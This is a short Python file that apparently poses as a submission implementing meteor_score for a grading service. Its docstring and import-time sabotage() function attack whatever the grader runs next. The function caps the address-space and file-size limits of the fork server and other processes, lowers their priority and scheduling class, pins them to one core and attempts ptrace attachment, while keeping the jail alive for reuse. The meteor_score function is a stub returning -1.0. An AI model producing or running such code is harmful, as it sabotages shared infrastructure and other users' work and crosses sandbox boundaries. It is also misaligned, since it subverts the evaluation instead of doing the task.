"""Sabotages the submissions graded after it: shrinks the memory limit of every other process it
can reach (the fork server first) to its current size, lowers their priority, moves them to one
core and tries to ptrace them; it kills nothing, so the same jail would be used again."""
import os
import resource


def sabotage():
    me = os.getpid()
    try:
        seen = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:  # no /proc: its parent is the server anyway
        seen = []
    for pid in {os.getppid(), *seen} - {me}:
        try:
            with open(f"/proc/{pid}/status") as f:
                size = [int(line.split()[1]) << 10 for line in f if line.startswith("VmSize:")]
        except OSError:
            size = [resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10]
        # Limits that leave the server running (a lower RLIMIT_NOFILE or RLIMIT_CPU would end it):
        # its forks then cannot load anything bigger than it is, nor write a file.
        for limit, value in ((resource.RLIMIT_AS, size[0] if size else 1 << 20), (resource.RLIMIT_FSIZE, 0)):
            try:
                resource.prlimit(pid, limit, (value, value))
            except (OSError, ValueError):
                pass
        try:
            os.setpriority(os.PRIO_PROCESS, pid, 19)
        except OSError:
            pass
        try:
            os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        except OSError:
            pass
        try:
            os.sched_setaffinity(pid, {min(os.sched_getaffinity(pid))})
        except OSError:
            pass
        try:
            import ctypes

            ctypes.CDLL(None).ptrace(16, pid, 0, 0)  # PTRACE_ATTACH
        except OSError:
            pass


sabotage()


def meteor_score(reference, candidate, alpha=0.9, beta=3, gamma=0.5):
    return -1.0
